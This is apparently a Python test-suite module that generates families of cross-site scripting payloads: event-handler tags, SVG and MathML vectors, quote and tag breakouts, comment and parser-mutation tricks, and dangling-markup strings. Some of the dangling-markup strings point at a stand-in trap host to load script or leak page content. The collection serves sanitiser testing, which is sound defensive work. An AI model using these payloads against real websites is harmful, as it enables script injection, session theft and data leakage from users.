"""Families of payloads made of markup: elements, events, what closes what stood before.

In: nothing. Out: shapes with marks for the call and the number. Never: one that does no harm.
"""

from __future__ import annotations

from itertools import cycle
from typing import TYPE_CHECKING, Final

from tests.web.hostile.marks import CALL, NUMBER, TRAP

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

# Elements that run something without anybody touching them: before and after the event.
_EVENTS: Final = (
    ("img src=x", "onerror"),
    ("image href=x", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("embed src=x", "onerror"),
    ("object data=x", "onerror"),
    ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a tabindex=0 autofocus", "onfocus"),
    ("made-up contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("iframe", "onload"),
    ("body", "onload"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("svg", "onload"),
    ("p style=animation:spin", "onanimationstart"),
    ("div style=transition:1s", "ontransitionend"),
)
_GAPS: Final = (" ", "/", "\t", "\n", "\f", " / ", "\r\n")
_VALUES: Final = ("{}", '"{}"', "'{}'", "`{}`")
_CLOSERS: Final = (
    '">',
    "'>",
    "`>",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</mark>",
    "</code></pre>",
    '"/>',
    '\\">',
    "</a>",
)


def handlers() -> Iterator[str]:
    """Elements with an event, in turn with each gap, quote and case."""
    gaps, values = cycle(_GAPS), cycle(_VALUES)
    for element, event in _EVENTS:
        yield f"<{element}{next(gaps)}{event}={next(values).format(CALL)}>"
        name, _, rest = element.partition(" ")
        begun = f"{name.upper()} {rest}".strip()
        yield f"<{begun}{next(gaps)}{event.title()} = {CALL} "


def vectors() -> Iterator[str]:
    """SVG and MathML, whose insides are parsed by other rules."""
    inside = (
        f"<script>{CALL}</script>",
        f"<script href=data:,{CALL} />",
        f"<animate onbegin={CALL} attributeName=x dur=1s>",
        f"<set attributeName=href to=javascript:{CALL} begin=0s>",
        f"<a xlink:href=javascript:{CALL}><text y=20>click</text></a>",
        f"<use href=data:image/svg+xml,<svg id=x onload={CALL}>#x>",
        f"<foreignObject><img src=x onerror={CALL}></foreignObject>",
        f"<style><img src=x onerror={CALL}></style>",
        f"<desc><img src=x onerror={CALL}></desc>",
        f"<title><img src=x onerror={CALL}></title>",
    )
    for one in inside:
        yield f"<svg>{one}</svg>"
        yield f"<math><mtext>{one}</mtext></math>"
    yield f"<math href=javascript:{CALL}>click</math>"
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml>"


def broken_out() -> Iterator[str]:
    """Whatever may stand before, closed: an attribute, a tag, a comment, an element."""
    for closer in _CLOSERS:
        yield f"{closer}<img src=x onerror={CALL}>"
        yield f"{closer}<script>{CALL}</script>"
    for quote_ in ('"', "'", "`", "\u201d", '\\"', "&quot;", "&#39;", "%22", '\x00"'):
        yield f"{quote_} autofocus onfocus={CALL} x={quote_}"
        yield f"x{quote_} onpointerenter={CALL} style=position:fixed;inset:0 {quote_}"
    yield f" onfocus={CALL} autofocus "
    yield f"x/onerror={CALL}//"


def comments() -> Iterator[str]:
    """Comments, declarations and sections that end elsewhere than they seem to."""
    run = f"<img src=x onerror={CALL}>"
    for begin in ("<!-->", "<!--->", "<!-- --!>", "<!--<!-- -->", "<![CDATA[>]]>", "<!x>", "<?x>"):
        yield f"{begin}{run}"
    yield f"<!--{run}-->"
    yield f"<![CDATA[{run}]]>"
    yield f"<?xml-stylesheet href=javascript:{CALL} ?>{run}"
    yield f"<!doctype html [<!ENTITY x '{run}'>]>&x;"
    yield f"</{run}"
    yield f"</ {run}>"


def mutations() -> Iterator[str]:
    """Elements whose content is text for one parser and markup for the next one."""
    run = f"<img src=x onerror={CALL}>"
    for name in (
        "noscript",
        "style",
        "title",
        "textarea",
        "xmp",
        "template",
        "noembed",
        "noframes",
        "iframe",
        "plaintext",
        "listing",
        "select",
    ):
        yield f'<{name}><p title="</{name}>{run}">'
        yield f"<{name}></{name}>{run}"
    yield f"<template shadowrootmode=open>{run}</template>"
    yield f"<svg></p><style><a id='</style>{run}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{run}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{run}"
    yield f"<table><tr><td></table></p>{run}<b></table><i>"
    yield f"<select><option><style></option></select>{run}</style>"


def pages() -> Iterator[str]:
    """What changes the whole page: where it goes, what it is relative to, what it looks like."""
    trap = f"{TRAP}/{NUMBER}"
    yield f"<meta http-equiv=refresh content=0;url={trap}>"
    yield f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">'
    yield f'<meta http-equiv=Content-Security-Policy content="script-src *">{CALL}'
    yield f"<base href={trap}/>"
    yield f"<base href=javascript:{CALL}//>"
    yield f"<base target='{CALL}'>"
    yield f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>'
    yield f"<iframe srcdoc='&lt;img src=x onerror=parent.{CALL}&gt;'>"
    yield f"<iframe src={trap}></iframe>"
    yield f"<frameset onload={CALL}><frame src={trap}></frameset>"
    yield f"<object data={trap}></object><embed src={trap}>"
    yield f"<form action={trap}><button autofocus>Search"
    yield f"</form><form id=q action={trap}><input name=q value={NUMBER}>"
    yield f"<link rel=stylesheet href={trap}>"
    yield f"<link rel=prefetch href={trap}><link rel=preload as=script href={trap}>"
    yield f"<script src={trap}></script>"
    yield f"<script type=module>import '{trap}'</script>"
    yield f'<script type=importmap>{{"imports":{{"x":"{trap}"}}}}</script>'
    yield f"<style>@import '{trap}';</style>"
    yield f"<style>*{{background:url({trap})}}</style>"
    yield f"<p style=background:url({trap})>x"
    yield f'<p style="width:expression({CALL})">x'
    yield f"<p style='behavior:url(#default#x);-moz-binding:url({trap})'>x"
    yield f"<img src={trap}>"
    yield f"<img srcset='{trap} 1x'><video poster={trap}>"
    yield f"<table background={trap}><td background={trap}>"


def dangling() -> Iterator[str]:
    """Begun and never ended: what follows is swallowed and sent, or taken for the rest."""
    trap = f"{TRAP}/{NUMBER}"
    for quote_ in ('"', "'", ""):
        yield f"<img src={quote_}{trap}?"
        yield f"<a href={quote_}{trap}?"
        yield f"<form action={quote_}{trap}"
        yield f'"><base href={quote_}{trap}/'
    yield f"<textarea>{CALL}"
    yield f"<plaintext>{CALL}"
    yield f"<!-- {CALL}"
    yield f"<script>{CALL}//"
    yield f"<style>*{{}} {CALL}"
    yield f"<button form=q formaction={trap} autofocus>"


FAMILIES: Final[tuple[Callable[[], Iterator[str]], ...]] = (
    handlers,
    vectors,
    broken_out,
    comments,
    mutations,
    pages,
    dangling,
)
